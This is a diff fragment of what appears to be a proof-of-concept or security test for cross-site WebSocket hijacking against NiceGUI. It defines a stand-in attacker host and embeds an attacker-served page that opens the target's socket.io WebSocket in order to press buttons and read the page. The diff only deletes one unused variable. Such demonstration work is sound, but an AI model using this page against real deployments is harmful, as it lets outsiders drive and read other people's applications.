@@ -20,7 +20,6 @@ ATTACKER = "attacker.example"
 # A page of another site sends a form, opens the socket through which buttons are pressed, and reads the page.
 PAGE = """<!doctype html><title>waits</title><script>
 const target = new URLSearchParams(location.search).get("target");
-const tried = {};
 const socket = new Promise(done => {
   const opened = new WebSocket(`ws://${target}/_nicegui_ws/socket.io/?EIO=4&transport=websocket`);
   opened.onopen = () => done("opened"); opened.onerror = () => done("refused");
